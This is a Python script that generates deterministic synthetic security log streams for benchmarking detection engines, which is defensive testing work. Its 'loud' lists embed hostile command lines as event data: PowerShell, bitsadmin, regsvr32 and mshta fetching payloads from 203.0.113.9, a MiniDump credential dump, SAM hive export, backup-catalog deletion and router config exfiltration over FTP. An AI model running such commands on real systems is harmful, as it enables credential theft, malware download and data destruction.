#!/usr/bin/env python3
"""lanes.py: the events that the benchmarks read: one NDJSON file a lane, the same bytes on every machine.

  lanes.py --out DIR [--count N] [LANE …]

A lane is a shape of traffic, not a recording: access events and CloudTrail as Tocsin's users have them, and the shapes that
Sigma engines are usually measured with (Windows process and file events, raw texts of forwarders, Cisco command accounting,
web, auditd, noise). `product`, `category` and `service` stand in the event, where a mapping or another engine's log source
routing finds them. The seed of a lane is its name, so a new lane changes no other.
"""
import argparse
import datetime
import json
import pathlib
import random

WINDOWS = "C:\\Windows\\System32\\"
PROGRAMS = "C:\\Program Files\\"

QUIET_COMMANDS = [
    f"{WINDOWS}svchost.exe -k LocalService -p -s nsi",
    f"{WINDOWS}backgroundTaskHost.exe -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
    f"{WINDOWS}RuntimeBroker.exe -Embedding",
    f"{WINDOWS}taskhostw.exe Install $(Arg0)",
    f"{WINDOWS}dllhost.exe /Processid:{{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}}",
    f"{WINDOWS}spoolsv.exe",
    f'"{PROGRAMS}Microsoft\\Edge\\Application\\msedge.exe" --type=utility --lang=en',
    f'"{PROGRAMS}7-Zip\\7zFM.exe" D:\\share\\plan.7z',
    "ipconfig /displaydns",
]
LOUD_COMMANDS = [
    "powershell.exe -w hidden -ep bypass -EncodedCommand SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
    "certutil.exe -decode C:\\Users\\Public\\b.txt C:\\Users\\Public\\b.exe",
    "bitsadmin /transfer n http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
    "regsvr32 /s /n /u /i:http://203.0.113.9/x.sct scrobj.dll",
    "mshta vbscript:Close(Execute(\"GetObject(\"\"script:http://203.0.113.9/p\"\")\"))",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full",
    "cmd.exe /c wbadmin delete catalog -quiet",
    "nltest /domain_trusts /all_trusts",
    "schtasks /create /sc minute /mo 5 /tn Sync /tr C:\\Users\\Public\\s.exe",
    "net1 localgroup administrators guest2 /add",
    "whoami /all",
    "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv",
]
PARENTS = [f"{WINDOWS}services.exe", f"{WINDOWS}userinit.exe", f"{WINDOWS}cmd.exe", "C:\\Windows\\explorer.exe",
           f"{WINDOWS}WindowsPowerShell\\v1.0\\powershell.exe"]
ACCOUNTS = ["NT AUTHORITY\\LOCAL SERVICE", "NT AUTHORITY\\SYSTEM", "NORTH\\ana", "NORTH\\li.wei", "NORTH\\svc-print"]
MACHINES = ["desk-0117", "desk-2209", "files-02", "dc-01", "note-0431"]
QUIET_FILES = ["C:\\Users\\ana\\Documents\\minutes.docx", "C:\\Users\\ana\\Downloads\\timetable.pdf", "C:\\Windows\\Temp\\update.log",
               "C:\\Users\\ana\\AppData\\Local\\Temp\\edge_installer.log", "C:\\ProgramData\\Package Cache\\state.rsm"]
LOUD_FILES = ["C:\\Users\\Public\\run.exe", "C:\\Users\\ana\\Downloads\\offer.pdf.exe", "C:\\Windows\\Temp\\lsass.dmp",
              "C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\sync.lnk"]
QUIET_ROUTER = ["show clock", "show ip route summary", "show inventory", "ping 10.1.7.1 repeat 3", "show interfaces counters", "show ntp status"]
LOUD_ROUTER = ["show startup-config", "copy startup-config ftp://203.0.113.9/s.cfg", "clear archive", "no logging buffered",
               "crypto pki export ca pem terminal", "monitor session 1 source interface Gi0/1"]

DAY = datetime.datetime(2026, 11, 23, tzinfo=datetime.timezone.utc)


def instant(rng, i, step=0.25):
    """Event times rise by about `step` seconds an event."""
    return (DAY + datetime.timedelta(seconds=i * step + rng.random() * step)).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def digits(rng, n):
    return f"{rng.randrange(16 ** n):0{n}x}"


def guid(rng):
    return "-".join(digits(rng, n) for n in (8, 4, 4, 4, 12))


def program(command):
    """The image that runs the command; a bare name becomes one of the system's."""
    first = command.split('"')[1] if command.startswith('"') else command.split()[0]
    return first if ":" in first else f"{WINDOWS}{first.removesuffix('.exe')}.exe"


def process(loud):
    def event(rng, _):
        command = rng.choice(LOUD_COMMANDS if rng.random() < loud else QUIET_COMMANDS)
        image = program(command)
        return {"EventID": 1, "Image": image, "CommandLine": command, "ParentImage": rng.choice(PARENTS),
                "ParentCommandLine": rng.choice(QUIET_COMMANDS), "User": rng.choice(ACCOUNTS),
                "IntegrityLevel": rng.choice(["High", "Medium", "System"]), "CurrentDirectory": "C:\\Windows\\system32\\",
                "LogonId": f"0x{digits(rng, 5)}", "ProcessId": rng.randrange(400, 60_000), "ParentProcessId": rng.randrange(400, 60_000),
                "ProcessGuid": guid(rng), "Hashes": f"SHA256={digits(rng, 64).upper()}", "OriginalFileName": image.rsplit("\\", 1)[1],
                "Computer": rng.choice(MACHINES), "UtcTime": f"2026-11-23 10:{rng.randrange(60):02}:{rng.randrange(60):02}.{rng.randrange(1000):03}",
                "product": "windows", "category": "process_creation"}
    return event


def forwarded_text(rng, _):
    """A Security 4688 as a syslog forwarder writes it: all in one text."""
    command = rng.choice(LOUD_COMMANDS if rng.random() < 0.1 else QUIET_COMMANDS)
    machine = rng.choice(MACHINES)
    text = (f"<14>Nov 23 10:{rng.randrange(60):02}:{rng.randrange(60):02} {machine} MSWinEventLog\t3\tSecurity\t{rng.randrange(10 ** 9)}\t"
            f"Mon Nov 23 10:00:00 2026\t4688\tMicrosoft-Windows-Security-Auditing\tN/A\tN/A\tSuccess Audit\t{machine}\tProcess Creation\t\t"
            f"A new process has been created.   Creator Subject:  Security ID:  {rng.choice(ACCOUNTS)}  Account Name:  {machine}$  "
            f"Account Domain:  NORTH  Logon ID:  0x{digits(rng, 5)}   Target Subject:  Security ID:  \\NULL SID  Account Name:  -  "
            f"Account Domain:  -  Logon ID:  0x0   Process Information:  New Process ID:  0x{digits(rng, 4)}  "
            f"New Process Name:  {program(command)}  Token Elevation Type:  %%1938  Mandatory Label:  Mandatory Label\\Medium Mandatory Level  "
            f"Creator Process ID:  0x{digits(rng, 4)}  Creator Process Name:  {rng.choice(PARENTS)}  Process Command Line:  {command}")
    return {"message": text, "product": "windows"}


def written_file(rng, _):
    machine = rng.choice(MACHINES)
    return {"EventID": "11", "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
            "Computer": machine, "Image": program(rng.choice(QUIET_COMMANDS)),
            "TargetFilename": rng.choice(LOUD_FILES if rng.random() < 0.05 else QUIET_FILES),
            "CreationUtcTime": f"2026-11-23 10:{rng.randrange(60):02}:{rng.randrange(60):02}.{rng.randrange(1000):03}", "ProcessGuid": guid(rng),
            "ProcessId": rng.randrange(400, 60_000), "User": f"{machine}\\ana", "product": "windows", "category": "file_event"}


def audit_call(rng, _):
    command = rng.choice(["bash", "curl", "cron", "perl", "sshd"])
    return {"type": "SYSCALL", "syscall": rng.choice(["42", "59", "257"]), "comm": command, "exe": f"/usr/bin/{command}",
            "uid": str(rng.randrange(2000)), "auid": str(rng.randrange(1000, 2000)), "tty": rng.choice(["(none)", "pts1"]),
            "key": rng.choice(["(null)", "exec", "net"]), "product": "linux"}


def web_request(rng, _):
    return {"c-ip": f"203.0.113.{rng.randrange(1, 255)}", "cs-method": rng.choice(["GET", "GET", "HEAD", "POST"]),
            "cs-uri-query": rng.choice(["/", "/account?id=7", "/health", "/search?q=shoes", "/static/site.css"]),
            "sc-status": rng.choice([200, 200, 200, 302, 404, 503]), "cs-user-agent": rng.choice(["Mozilla/5.0 (X11; Linux x86_64)", "Wget/1.21.3"]),
            "product": "webserver", "category": "webserver"}


def short_cloud_call(rng, _):
    service, name = rng.choice([("ec2", "DescribeInstances"), ("iam", "CreateUser"), ("iam", "ListUsers"), ("s3", "GetObject"), ("s3", "PutObject")])
    return {"eventSource": f"{service}.amazonaws.com", "eventName": name, "awsRegion": rng.choice(["ap-southeast-1", "eu-west-1"]),
            "sourceIPAddress": f"198.51.100.{rng.randrange(1, 255)}", "userIdentity": {"type": "IAMUser", "userName": rng.choice(["build", "ops", "root2"])},
            "product": "aws", "service": "cloudtrail"}


def mixed(rng, i):
    return [process(0.02), audit_call, web_request, short_cloud_call][i % 4](rng, i)


def router_command(rng, _):
    command = rng.choice(LOUD_ROUTER if rng.random() < 0.1 else QUIET_ROUTER)
    return {"message": f"<189>Nov {rng.randrange(1, 30)} {rng.randrange(24):02}:{rng.randrange(60):02}:{rng.randrange(60):02} "
                       f"{rng.choice(['core-1', 'edge-7', 'hall-3'])} %AAA-5-USER_LOGGED: User {rng.choice(['netops', 'audit', 'wei'])} executed: {command}",
            "product": "cisco", "service": "aaa"}


def noise(rng, _):
    return {f"f{k}": digits(rng, 24) for k in range(8)} | {"product": "synthetic"}


def sign_in(rng, i):
    """Four failures, then a success, person by person: every correlation of correlations.yml fires on it."""
    person = i // 5
    return {"timestamp": instant(rng, i), "EventType": "authentication_success" if i % 5 == 4 else "authentication_failure",
            "User": f"person-{person % 100:03}", "SourceIP": f"198.51.100.{rng.randrange(1, 51)}", "Computer": f"door-{person % 10:02}",
            "BytesOut": rng.randrange(500, 5001), "product": "windows", "category": "authentication"}


def cloudtrail(rng, i):
    """A whole CloudTrail record, as the `Records` of its files hold them."""
    service, name, read = rng.choice([("ec2", "DescribeInstances", True), ("iam", "CreateAccessKey", False), ("kms", "Decrypt", True),
                                      ("s3", "GetObject", True), ("s3", "GetObject", True), ("s3", "PutObject", False), ("sts", "AssumeRole", True)])
    name = "StopLogging" if rng.random() < 0.001 else name
    user, account = rng.choice(["build", "li.wei", "ops", "report"]), "111122223333"
    return {"eventVersion": "1.09", "userIdentity": {
                "type": "AssumedRole", "principalId": f"AROA{digits(rng, 16).upper()}:{user}", "arn": f"arn:aws:sts::{account}:assumed-role/{user}/s",
                "accountId": account, "accessKeyId": f"ASIA{digits(rng, 16).upper()}", "sessionContext": {
                    "sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{account}:role/{user}", "accountId": account, "userName": user},
                    "attributes": {"creationDate": instant(rng, i), "mfaAuthenticated": rng.choice(["false", "true"])}}},
            "eventTime": instant(rng, i), "eventSource": f"{service}.amazonaws.com", "eventName": name, "awsRegion": "eu-west-1",
            "sourceIPAddress": f"198.51.100.{rng.randrange(1, 255)}", "userAgent": "aws-sdk-go-v2/1.30 os/linux lang/go#1.22",
            "requestParameters": {"bucketName": f"customers-{rng.randrange(40)}", "key": f"export/{rng.randrange(10 ** 6)}.csv", "Host": "s3.eu-west-1.amazonaws.com"},
            "responseElements": None, "additionalEventData": {"bytesTransferredIn": 0, "bytesTransferredOut": rng.randrange(10 ** 6), "x-amz-id-2": digits(rng, 40)},
            "requestID": digits(rng, 16).upper(), "eventID": guid(rng), "readOnly": read, "resources": [
                {"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::customers-{rng.randrange(40)}/export"}],
            "eventType": "AwsApiCall", "managementEvent": service != "s3", "recipientAccountId": account, "eventCategory": "Data",
            "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256"}, "product": "aws", "service": "cloudtrail"}


def access(rng, i):
    """Tocsin's own access event: 2,000 actors on their own customers and, one event in 25, a reader of everybody's; 600 bytes."""
    busy = rng.random() < 0.04
    actor = 5000 + i // 50_000 if busy else rng.randrange(2000)
    customer = i if busy else actor * 10 + rng.randrange(10)
    event = {"uid": f"e-{i}", "time": instant(rng, i),
             "actor": {"id": f"user-{actor}", "type": "employee", "roles": ["customer_service", "staff"], "org": "acme", "dept": "support", "session": f"s-{digits(rng, 16)}"},
             "action": {"verb": rng.choice(["Read", "Read", "Update"]), "operation": f"GET /api/v1/customers/{customer}", "service": "crm"},
             "resource": {"id": str(customer), "type": "customer", "store": "crm-main", "table": "customers", "classifications": ["personal"]},
             "subjects": [{"id": str(customer), "id_type": "customer"}], "record_count": 1, "byte_count": 2048,
             "src": {"ip": f"10.1.{actor % 250}.{actor % 199}", "country": "CN"}, "outcome": "success", "case_ref": "T-"}
    event["case_ref"] += "x" * max(0, 600 - len(json.dumps(event, separators=(",", ":"))))
    return event


LANES = {
    "access": access,
    "cisco_syslog": router_command,
    "cloudtrail": cloudtrail,
    "correlation": sign_in,
    "low_match": process(0.01),
    "match_heavy": process(0.8),
    "mixed_schema": mixed,
    "no_match": noise,
    "raw_windows": forwarded_text,
    "structured_windows": process(0.02),
    "sysmon_file_event": written_file,
}


def write(lane, path, count):
    rng = random.Random(lane)
    with path.open("w", encoding="utf-8", newline="\n") as out:
        for i in range(count):
            out.write(json.dumps(LANES[lane](rng, i), separators=(",", ":")) + "\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--out", type=pathlib.Path, required=True)
    parser.add_argument("--count", type=int, default=80_000, help="events a lane")
    parser.add_argument("lane", nargs="*", help="all, when none is named")
    arguments = parser.parse_args()
    arguments.out.mkdir(parents=True, exist_ok=True)
    for lane in arguments.lane or LANES:
        if lane not in LANES:
            parser.error(f"unknown lane `{lane}`; there are {', '.join(LANES)}")
        write(lane, arguments.out / f"{lane}.ndjson", arguments.count)


if __name__ == "__main__":
    main()
